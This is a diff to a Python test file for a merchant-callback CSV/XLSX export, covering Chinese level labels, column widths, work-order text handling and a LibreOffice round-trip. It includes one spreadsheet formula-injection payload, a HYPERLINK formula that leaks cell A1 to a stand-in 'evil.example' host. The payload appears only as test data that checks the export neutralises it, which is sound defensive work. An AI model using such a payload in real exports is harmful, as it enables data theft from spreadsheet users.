@@ -4,6 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
+import shutil
+import subprocess
+import zipfile
 from datetime import date, datetime, timedelta, timezone
 from urllib.parse import unquote
 from zoneinfo import ZoneInfo
@@ -112,8 +115,14 @@ def ids_in(rows) -> set[int]:
     return {int(row[0]) for row in rows[1:]}
 
 
-def expected_row(issue: Issue) -> list[str]:
-    """What the CSV says about an issue, computed from the database independently."""
+LEVELS_ZH = {1: "一级 · 商圈联络员", 2: "二级 · 社区热线专员", 3: "三级 · 联合现场办公",
+             4: "四级 · 座谈会"}
+
+
+def expected_row(issue: Issue, *, as_csv: bool = True) -> list[str]:
+    """What the CSV (or, with ``as_csv=False``, the XLSX) says about an issue, computed from
+    the database independently. The CSV wraps the work-order number as ``="…"`` so that
+    spreadsheets keep it as text."""
     calls = sorted(issue.callbacks, key=lambda c: (c.called_at, c.id))
     ratings = [c for c in calls if c.reached and c.rating]
     first, final = (ratings[0], ratings[-1]) if ratings else (None, None)
@@ -129,9 +138,13 @@ def expected_row(issue: Issue) -> list[str]:
                   "very_dissatisfied": "非常不满意", None: ""}
     responded = min(m for m in (issue.first_on_site_at, issue.resolved_at) if m)
     return [
-        str(issue.id), issue.work_order_no or "", issue.merchant.shop_name, issue.circle.name,
+        str(issue.id),
+        (f'="{issue.work_order_no}"' if as_csv else issue.work_order_no)
+        if issue.work_order_no else "",
+        issue.merchant.shop_name, issue.circle.name,
         issue.circle.community.name, issue.category.name,
-        {"small": "小事", "big": "大事", "hard": "难事"}[issue.severity], str(issue.highest_level),
+        {"small": "小事", "big": "大事", "hard": "难事"}[issue.severity],
+        LEVELS_ZH[issue.highest_level],
         format_local(issue.reported_at), format_local(issue.first_on_site_at),
         format_local(responded), format_local(issue.resolved_at),
         yes_no(sla.response_state(issue, now, calendar)),
@@ -383,7 +396,6 @@ def test_xlsx_round_trip_with_real_types(admin_browser, db, data):
     assert response.mimetype == exporting.CONTENT_TYPES["xlsx"]
     sheet = read_xlsx(response)
     assert sheet.freeze_panes == "A2"
-    assert sheet.column_dimensions["C"].width == 24
     rows = list(sheet.iter_rows(values_only=True))
     assert list(rows[0]) == headers()
     assert sheet["A1"].font.bold
@@ -392,7 +404,7 @@ def test_xlsx_round_trip_with_real_types(admin_browser, db, data):
     for issue in issues:
         db.session.refresh(issue)
         row = by_id[issue.id]
-        want = expected_row(issue)
+        want = expected_row(issue, as_csv=False)
         for key, column in zip(COL, exporting.COLUMNS, strict=True):
             value = row[COL[key]]
             if value is None:
@@ -421,11 +433,14 @@ def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(admin_browser, db, dat
     title = gettext("Satisfaction callbacks")
     assert workbook.sheetnames == [title, f"{title} (2)", f"{title} (3)"]
     ids = []
+    first_widths = {key: dimension.width
+                    for key, dimension in workbook.worksheets[0].column_dimensions.items()}
     for sheet in workbook.worksheets:
         rows = list(sheet.iter_rows(values_only=True))
         # Every sheet is a table of its own: the header, frozen and bold, then its rows.
         assert list(rows[0]) == headers() and sheet["A1"].font.bold
-        assert sheet.freeze_panes == "A2" and sheet.column_dimensions["C"].width == 24
+        assert sheet.freeze_panes == "A2"
+        assert sheet.column_dimensions["C"].width == first_widths["C"]
         assert len(rows) <= 3
         ids += [row[0] for row in rows[1:]]
     assert ids == [issue.id for issue in issues]
@@ -439,16 +454,46 @@ def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(admin_browser, db, dat
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
 
 
-def test_formula_cells_are_neutralised(admin_browser, db, data):
-    merchant = f.MerchantFactory(circle=data.east, shop_name="+SUM(1,2)")
+def test_formula_cells_are_neutralised_in_the_csv_and_kept_as_text_in_the_xlsx(
+        admin_browser, db, data):
+    merchant = f.MerchantFactory(circle=data.east, shop_name="+86超市")
     called_back(data.east, merchant=merchant, comments=FORMULA)
     db.session.commit()
     row = read_csv(download(admin_browser))[1]
-    assert row[2] == "'+SUM(1,2)" and row[COL["comments"]] == "'" + FORMULA
-    sheet = read_xlsx(download(admin_browser, format="xlsx"))
-    assert sheet["C2"].value == "'+SUM(1,2)" and sheet["C2"].data_type == "s"
+    assert row[2] == "'+86超市" and row[COL["comments"]] == "'" + FORMULA
+    # An XLSX inline string never runs: the cell holds the merchant's text as typed.
+    response = download(admin_browser, format="xlsx")
+    sheet = read_xlsx(response)
+    assert sheet["C2"].value == "+86超市" and sheet["C2"].data_type == "s"
     comments = sheet[letter("comments") + "2"]
-    assert comments.value == "'" + FORMULA and comments.data_type == "s"
+    assert comments.value == FORMULA and comments.data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
+        xml = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and 't="inlineStr"' in xml
+
+
+def test_xlsx_widths_fit_the_content_with_chinese_counted_double(admin_browser, db, data):
+    circle = f.CircleFactory(community=data.east.community, name="红色商业圈东大街北段步行街")
+    merchant = f.MerchantFactory(circle=circle, shop_name="Cafe")
+    called_back(circle, merchant=merchant, work_order_no="202411180000123456")
+    db.session.commit()
+    sheet = read_xlsx(download(admin_browser, format="xlsx"))
+    width = {key: sheet.column_dimensions[letter(key)].width for key in COL}
+    # 13 Chinese characters take 26 cells; the header "商圈" 4.
+    assert width["circle"] >= 26
+    assert width["work_order_no"] >= 18
+    # The header is wider than "Cafe": it sets the width (Chinese header counted double).
+    assert width["shop_name"] >= len("商铺名称") * 2
+    assert width["reported_at"] >= len("2024-06-10 09:00")
+    assert width["comments"] <= 60
+
+
+def test_the_level_is_written_in_words(admin_browser, db, data):
+    called_back(data.east, highest_level=3)
+    db.session.commit()
+    assert read_csv(download(admin_browser))[1][COL["highest_level"]] == "三级 · 联合现场办公"
+    sheet = read_xlsx(download(admin_browser, format="xlsx"))
+    assert sheet[letter("highest_level") + "2"].value == "三级 · 联合现场办公"
 
 
 def test_control_characters_do_not_break_the_xlsx(admin_browser, db, data):
@@ -719,3 +764,32 @@ def test_times_follow_the_configured_zone(app, admin_browser, db, data):
     times = {row[0]: row[8] for row in sheet.iter_rows(min_row=2, values_only=True)}
     assert times[summer.id] == datetime(2024, 7, 1, 8, 0)
     assert times[winter.id] == datetime(2024, 12, 2, 7, 0)
+
+
+# --- the CSV in a real spreadsheet ----------------------------------------------------------
+
+@pytest.mark.skipif(shutil.which("soffice") is None,
+                    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
+def test_libreoffice_opens_work_order_numbers_intact(admin_browser, db, data, tmp_path):
+    numbers = ["202411180000123456", "0012345", "2024-11", "GD-2024-0001"]
+    issues = [called_back(data.east, work_order_no=number) for number in numbers]
+    merchant = f.MerchantFactory(circle=data.east, shop_name="=1+1")
+    tricky = called_back(data.east, merchant=merchant, work_order_no="+86 1234")
+    db.session.commit()
+    source = tmp_path / "export.csv"
+    source.write_bytes(download(admin_browser).get_data())
+    # 44,34,76: comma-separated, double-quoted, UTF-8 (the BOM alone does not tell
+    # LibreOffice); a profile of its own so that parallel runs do not share one.
+    subprocess.run(
+        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
+         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
+         str(source)],
+        check=True, capture_output=True, timeout=120)
+    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx", data_only=True).active
+    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
+    for issue, number in zip(issues, numbers, strict=True):
+        assert rows[issue.id][COL["work_order_no"]] == number
+    # Text that is not a plain code keeps the formula guard, and nothing was run.
+    assert rows[tricky.id][COL["work_order_no"]] == "'+86 1234"
+    assert rows[tricky.id][COL["shop_name"]] == "'=1+1"
+    assert rows[tricky.id][COL["circle"]] == data.east.name
